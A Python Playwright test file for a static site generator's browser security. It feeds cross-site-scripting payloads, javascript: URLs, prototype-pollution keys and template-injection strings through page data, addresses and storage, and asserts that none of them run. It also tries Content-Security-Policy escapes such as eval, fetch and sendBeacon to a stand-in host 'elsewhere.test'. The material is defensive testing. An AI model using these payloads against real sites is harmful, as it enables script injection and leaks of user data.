"""Nothing from the data, from an address or from storage ever runs or becomes markup, and the policy stands behind that."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from sitegen.serve import Server
from tests.browser.conftest import Visitor
from tests.browser.forms import Form
from tests.sitegen import hostile

GUIDE = "guides/1.41/"
WATCH = """
window.hits = 0;
window.hit = () => { window.hits += 1; };
window.broken = [];
window.stopped = new Promise((resolve) => addEventListener("securitypolicyviolation", (event) => {
  window.broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
  resolve(true);
}));
"""
FOUND = """() => {
  const found = [`${hits} calls`.replace(/^0 calls$/, ""), ...broken];
  for (const node of document.querySelectorAll("*")) {
    for (const { name, value } of node.attributes) {
      const runs = /^on|^style$|^srcdoc$|^data-hostile/.test(name);
      const leads = /^(href|src|action|formaction|xlink:href)$/.test(name) && /^\\s*(javascript|data|vbscript):/i.test(value);
      if (runs || leads) found.push(`${node.tagName} ${name}=${value.slice(0, 60)}`);
    }
    if (node.tagName === "SCRIPT" && !node.src && !/json/.test(node.type)) found.push("inline script");
    if (/^(IFRAME|OBJECT|EMBED|STYLE|BASE)$/.test(node.tagName)) found.push(node.tagName);
  }
  if (Object.keys(Object.prototype).length || {}.polluted) found.push("polluted prototype");
  return found.filter(Boolean);
}"""
"""What a page holds that could run, what ran, and what the policy had to stop: an empty list is what must be."""
IMAGE = '"><img data-hostile src=x onerror=hit()>'


def watched(visitor: Visitor) -> BrowserContext:
    context = visitor.context()
    context.add_init_script(WATCH)
    return context


def is_clean(page: Page) -> None:
    assert page.evaluate(FOUND) == []


# --- From the data ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_site(root: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return hostile.write(root, tmp_path_factory.mktemp("hostile"))


@pytest.fixture
def victim(browser: Browser, hostile_site: Path) -> Iterator[Visitor]:
    """A reader of a site whose data tries to run scripts."""
    with Server(hostile_site, 0) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        visitor = Visitor(browser, server.url)
        yield visitor
        for context in visitor.contexts:
            context.close()
        server.shutdown()
    assert not visitor.faults


def test_no_text_of_the_data_becomes_markup_or_a_template_on_any_page(victim, hostile_site):
    page = watched(victim).new_page()
    for file in sorted(hostile_site.rglob("index.html")):
        page.goto(file.parent.relative_to(hostile_site).as_posix().removeprefix(".") + "/")
        is_clean(page)
        assert "data-hostile" not in page.evaluate(
            "[...document.querySelectorAll('*')].map((one) => one.getAttributeNames()).join()"
        )
    page.goto("guides/9.1/")
    assert "<script data-hostile>hit()</script>" in page.title()
    text = page.locator("article").inner_text()
    for words in ("<script data-hostile>hit()</script>", "{{ 7*7 }}", "{% if %}", "[乙](javascript:hit())"):
        assert words in text


def test_no_text_of_the_data_becomes_markup_in_answers(victim):
    page = watched(victim).new_page()
    page.goto("guides/9.1/")
    form = Form(page)
    form.answer(kind="private", shops=3, open_long=True, convicted=False)
    form.submit()
    expect(form.expect_verdict("met")).to_contain_text("<script data-hostile>")
    timeline = Form(page, "timeline")
    timeline.field("events.accepted").fill("2026-03-02")
    timeline.field("case").fill(IMAGE[:40])
    timeline.submit()
    expect(timeline.view("timeline")).to_contain_text("<script data-hostile>")
    is_clean(page)


def test_no_text_of_the_data_becomes_markup_in_the_search(victim):
    page = watched(victim).new_page()
    page.goto("guides/9.1/")
    box = page.locator("[data-search] input").first
    box.fill("样例卡")
    expect(page.locator("[role=option]").first).to_contain_text("<script data-hostile>")
    box.fill(f"{IMAGE}样例卡")
    expect(page.locator(".search__status").or_(page.locator("[role=option]")).first).to_be_attached()
    is_clean(page)


def test_the_data_inside_scripts_ends_no_script(hostile_site):
    for file in [*hostile_site.rglob("*.html")]:
        for attributes, body in re.findall(
            r"<script\b([^>]*)>(.*?)</script>", file.read_text("utf-8"), re.DOTALL
        ):
            assert "src=" in attributes or "data-hostile" not in body, file


# --- From an address ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "fragment",
    [
        f"w=checker&answers.company={IMAGE}",
        f"w=checker&answers.passport_months={IMAGE}",
        "w=checker&answers.passport_months=javascript:hit()",
        f"w={IMAGE}",
        IMAGE,
        "javascript:hit()",
        "w=checker&__proto__.polluted=1&constructor.prototype.polluted=1&answers.__proto__.polluted=1",
        "w=__proto__&answers.company=private",
        "w=constructor",
        "w=checker&answers.passport_months=" + "9" * 200_000,
        "w=checker&" + "&".join(f"answers.x{number}=1" for number in range(5_000)),
        "w=checker&answers.company=%00%ff%E0%A4%A",
    ],
    ids=lambda fragment: fragment[:40],
)
def test_nothing_in_an_address_runs_or_becomes_markup(visit, fragment):
    page = watched(visit).new_page()
    page.goto(f"{GUIDE}#{fragment}")
    form = Form(page)
    form.submit()
    expect(form.view("check").locator(":scope > *").first).to_be_visible()
    is_clean(page)
    form.tool("clear").click()
    form.answer(company="private", passport_months=36)
    form.submit()
    form.expect_verdict("unknown")


@pytest.mark.parametrize(
    "query", [f"?q={IMAGE}", "?kiosk=javascript:hit()", f"?{IMAGE}", "?__proto__[polluted]=1"]
)
def test_nothing_in_a_query_runs_or_becomes_markup(visit, query):
    page = watched(visit).new_page()
    for path in (GUIDE, "", "deadlines/", "find/", "ledger/1.10/"):
        page.goto(f"{path}{query}")
        is_clean(page)


# --- From storage -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "kept",
    [
        json.dumps({"answers.company": IMAGE, "answers.passport_months": IMAGE}),
        '{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}',
        json.dumps(IMAGE),
        json.dumps([IMAGE]),
        "7",
        "true",
        '{"answers.company": {"toString": "hit"}, "answers.passport_months": [1]}',
        "<script>hit()</script>",
    ],
)
def test_nothing_in_storage_runs_or_becomes_markup_and_the_form_still_works(visit, kept):
    context = watched(visit)
    names = ["checker", "timeline", "checker.before", "ticks", "cases"]
    keys = [f"guide:/{path}:{name}" for path in (GUIDE, "ledger/1.10/") for name in names]
    context.add_init_script(
        f"if (location.protocol === 'http:') {{"
        f"  for (const key of {json.dumps(keys)}) sessionStorage.setItem(key, {json.dumps(kept)});"
        f"  for (const key of ['theme', 'size', 'contrast']) localStorage.setItem(key, {json.dumps(IMAGE)});"
        f"}}"
    )
    page = context.new_page()
    page.goto("ledger/1.10/")
    is_clean(page)
    page.goto(GUIDE)
    is_clean(page)
    form = Form(page)
    form.tool("clear").click()
    form.answer(company="private", passport_months=36)
    form.submit()
    form.expect_verdict("unknown")
    is_clean(page)


# --- The policy ---------------------------------------------------------------------------------

ATTEMPTS = {
    "eval": "try { (0, eval)('hit()'); } catch (error) { /* counted below */ }",
    "new Function": "try { new Function('hit()')(); } catch (error) { /* counted below */ }",
    "a timer with text": "setTimeout('hit()')",
    "an inline script": "const s = document.createElement('script'); s.textContent = 'hit()'; document.body.append(s)",
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hit()>')",
    "a script from elsewhere": "const s = document.createElement('script'); s.src = 'https://elsewhere.test/x.js'; document.body.append(s)",
    "a script in an address": "const s = document.createElement('script'); s.src = 'data:text/javascript,hit()'; document.body.append(s)",
    "a worker from text": "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch (error) { /* counted below */ }",
    "a request elsewhere": "fetch('https://elsewhere.test/').catch(() => {})",
    "a beacon": "navigator.sendBeacon('https://elsewhere.test/', 'answers')",
    "an image from elsewhere": "new Image().src = 'https://elsewhere.test/?answers'",
    "a style": "const s = document.createElement('style'); s.textContent = 'body {color: red}'; document.head.append(s)",
    "a frame": "const f = document.createElement('iframe'); f.src = 'https://elsewhere.test/'; document.body.append(f)",
    "a form": "const f = document.createElement('form'); f.action = '/x'; document.body.append(f); f.submit()",
    "another base": "const b = document.createElement('base'); b.href = 'https://elsewhere.test/'; document.head.append(b)",
}


@pytest.fixture(scope="module", params=["header", "meta"])
def bound(request: pytest.FixtureRequest, browser: Browser, base: str) -> Iterator[Page]:
    """A page bound by the policy of the header alone, and by that of the page alone."""
    context = browser.new_context(base_url=base, service_workers="block")

    def strip(route: Route) -> None:
        response = route.fetch()
        headers, body = response.headers, response.text()
        if request.param == "header":
            body = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", body)
        else:
            del headers["content-security-policy"]
        route.fulfill(status=response.status, headers=headers, body=body)

    context.route(f"{base}help/", strip)
    context.add_init_script(WATCH)
    yield context.new_page()
    context.close()


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_the_policy_stops(bound, attempt):
    bound.goto("help/")
    bound.evaluate(
        f"() => {{ setTimeout(() => {{ {ATTEMPTS[attempt]} }}) }}"
    )  # later: the debugger itself may eval
    assert bound.evaluate(
        "Promise.race([stopped, new Promise((resolve) => setTimeout(resolve, 10_000, false))])"
    )
    assert bound.evaluate("hits") == 0


def test_the_page_may_not_be_framed_by_others(visit):
    response = visit.context().new_page().goto("help/")
    assert response is not None
    assert "frame-ancestors 'self'" in response.headers["content-security-policy"]
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"
